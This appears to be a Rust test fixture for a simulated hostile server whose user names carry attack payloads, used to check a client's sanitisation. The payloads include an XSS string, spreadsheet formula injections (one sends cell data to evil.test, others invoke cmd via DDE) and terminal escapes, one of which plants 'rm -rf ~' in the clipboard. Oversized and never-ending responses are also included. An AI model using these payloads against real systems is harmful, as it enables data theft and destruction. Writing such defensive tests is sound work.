//! What the hostile panel's answers hold.

use std::{convert::Infallible, time::Duration};

use axum::body::{Body, Bytes};
use serde_json::json;

/// Longer than the 65,535 characters a terminal table cell could hold.
pub const LONG_NAME_CHARS: usize = 70_000;

/// Script for a web view and formulas for a spreadsheet.
pub const XSS_NAMES: [&str; 6] = [
    "<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
];

/// Clipboard write (OSC 52), window title (OSC 0), clear screen, a carriage return and a
/// line break that forge output lines, and a NUL.
pub const ESCAPE_NAMES: [&str; 5] = [
    "clip\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
    "title\u{1b}]0;pwned\u{7}",
    "clear\u{1b}[2J\u{1b}[H",
    "spoof\rok: all panels synced",
    "line\nFAKE  fake@evil  active\u{0}",
];

/// One `get-list` page holding sub-users with these names.
pub fn listing(names: &[&str]) -> String {
    let items: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"id": i + 1, "user_name": name, "use_key": "pw", "status": 1,
                   "note": name, "data_used": 0, "ip_used": 0})
        })
        .collect();
    json!({"success": true, "message": "", "result": {
        "items": items, "total_items": names.len(), "total_pages": 1}})
    .to_string()
}

const CHUNK: usize = 64 * 1024;

/// A JSON answer of `total` bytes, made on the fly so the simulator itself stays small.
pub fn huge(total: u64) -> Body {
    let head = Bytes::from_static(br#"{"success":true,"message":"","result":{"items":[],"pad":""#);
    let filler = Bytes::from(vec![b'a'; CHUNK]);
    let chunks =
        std::iter::once(head).chain((0..total.div_ceil(CHUNK as u64)).map(move |_| filler.clone()));
    Body::from_stream(futures::stream::iter(chunks.map(Ok::<_, Infallible>)))
}

/// A JSON answer that never ends, one byte per `interval`.
pub fn drip(interval: Duration) -> Body {
    let stream = futures::stream::unfold(0u64, move |sent| async move {
        if sent > 0 {
            tokio::time::sleep(interval).await;
        }
        let byte: &'static [u8] = if sent == 0 { b"[" } else { b" " };
        Some((Ok::<_, Infallible>(Bytes::from_static(byte)), sent + 1))
    });
    Body::from_stream(stream)
}
